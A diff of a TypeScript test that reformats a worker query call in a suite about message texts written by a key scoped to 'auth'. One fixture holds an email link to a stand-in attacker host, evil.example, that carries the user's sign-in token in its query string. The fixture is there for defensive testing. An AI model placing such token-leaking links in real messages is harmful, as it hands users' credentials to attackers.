@@ -84,9 +84,11 @@ describe('a redirect allowed by a key with the scope auth', () => {
 describe('a message text written by a key with the scope auth', () => {
   const texts = { html: '<a href="https://evil.example/?t={{token}}">Sign in</a>' };
   const claimed = async () => {
-    const { rows } = await asWorker(server, `select worker.messages_claim($1, 'email', 10) as list`, [
-      tenant.tenant.id,
-    ]);
+    const { rows } = await asWorker(
+      server,
+      `select worker.messages_claim($1, 'email', 10) as list`,
+      [tenant.tenant.id],
+    );
     return Object.fromEntries(
       rows[0].list.map((one: { recipient: string; texts: unknown }) => [one.recipient, one.texts]),
     );
